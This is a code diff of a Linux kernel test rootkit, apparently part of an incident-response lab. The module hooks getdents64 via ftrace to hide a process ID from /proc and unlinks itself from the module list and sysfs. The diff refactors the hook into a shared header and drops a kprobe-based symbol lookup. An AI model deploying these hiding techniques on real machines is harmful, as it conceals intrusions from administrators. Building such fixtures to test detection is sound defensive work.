@@ -14,18 +14,18 @@
 // It can never be unloaded (no exit function, and the module list no longer holds it): the lab
 // powers the guest off instead.
 //
-// kallsyms_lookup_name is not exported since Linux 5.7; its address is taken from a kprobe on it
-// (register, read kp.addr, unregister), the trick public test code uses.
+// The hook itself is ../common/ftrace_redirect.h, shared with hide_tcp.
 #include <linux/file.h>
 #include <linux/fs.h>
 #include <linux/ftrace.h>
 #include <linux/kernel.h>
-#include <linux/kprobes.h>
 #include <linux/magic.h>
 #include <linux/module.h>
 #include <linux/slab.h>
 #include <linux/uaccess.h>
 #include <linux/dirent.h>  // after the others: it uses u64 without including types.h
+
+#include "ftrace_redirect.h"
 
 MODULE_LICENSE("GPL");  // ftrace and kprobe registration are GPL-only symbols
 MODULE_DESCRIPTION("irsnap kernel lab: test rootkit hiding a pid from /proc and itself");
@@ -40,7 +40,6 @@ MODULE_PARM_DESC(hide_sysfs, "1: also remove /sys/module/hide_pid (kobject_del)"
 static char hidden_name[16];
 typedef long (*syscall_fn)(const struct pt_regs *);
 static syscall_fn real_getdents64;
-static unsigned long target_ip;
 
 // Calls the real getdents64, then rewrites the caller's buffer without the hidden entry. Only
 // listings of a procfs directory are filtered, so a file named like the pid elsewhere stays.
@@ -88,34 +87,7 @@ static long hp_getdents64(const struct pt_regs *regs)
 	return total;
 }
 
-// The ftrace callback: send the call to hp_getdents64 unless it comes from this module (our own
-// call of the real function must reach it, not loop back here).
-static void notrace hp_ftrace_thunk(unsigned long ip, unsigned long parent_ip,
-				    struct ftrace_ops *ops, struct ftrace_regs *fregs)
-{
-	struct pt_regs *regs = ftrace_get_regs(fregs);
-
-	if (regs && !within_module(parent_ip, THIS_MODULE))
-		regs->ip = (unsigned long)hp_getdents64;
-}
-
-static struct ftrace_ops hp_ops = {
-	.func = hp_ftrace_thunk,
-	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
-};
-
-static unsigned long lookup_name(const char *name)
-{
-	typedef unsigned long (*kallsyms_fn)(const char *);
-	struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
-	kallsyms_fn kallsyms_lookup;
-
-	if (register_kprobe(&kp) < 0)
-		return 0;
-	kallsyms_lookup = (kallsyms_fn)kp.addr;
-	unregister_kprobe(&kp);
-	return kallsyms_lookup ? kallsyms_lookup(name) : 0;
-}
+FTRACE_REDIRECT(hp_hook, hp_getdents64);
 
 // Built with KCFLAGS=-DHIDE_PID_NOTRACE_INIT (scenario module-hide-notrace) the init function has
 // no ftrace call site, so ftrace keeps no record of it once init memory is freed: no line of
@@ -133,23 +105,9 @@ static int HP_INIT hide_pid_init(void)
 	if (pid <= 0)
 		return -EINVAL;
 	snprintf(hidden_name, sizeof(hidden_name), "%d", pid);
-	target_ip = lookup_name("__x64_sys_getdents64");
-	if (!target_ip) {
-		pr_err("hide_pid: __x64_sys_getdents64 not found\n");
-		return -ENOENT;
-	}
-	real_getdents64 = (syscall_fn)target_ip;
-	err = ftrace_set_filter_ip(&hp_ops, target_ip, 0, 0);
-	if (err) {
-		pr_err("hide_pid: ftrace_set_filter_ip: %d\n", err);
+	real_getdents64 = (syscall_fn)ftrace_redirect_install(&hp_hook, "__x64_sys_getdents64", &err);
+	if (!real_getdents64)
 		return err;
-	}
-	err = register_ftrace_function(&hp_ops);
-	if (err) {
-		pr_err("hide_pid: register_ftrace_function: %d\n", err);
-		ftrace_set_filter_ip(&hp_ops, target_ip, 1, 0);
-		return err;
-	}
 	// Printed before hiding, so the guest's console log shows what was loaded.
 	pr_info("hide_pid: hiding pid %d, hide_sysfs=%d\n", pid, hide_sysfs);
 	list_del(&THIS_MODULE->list);
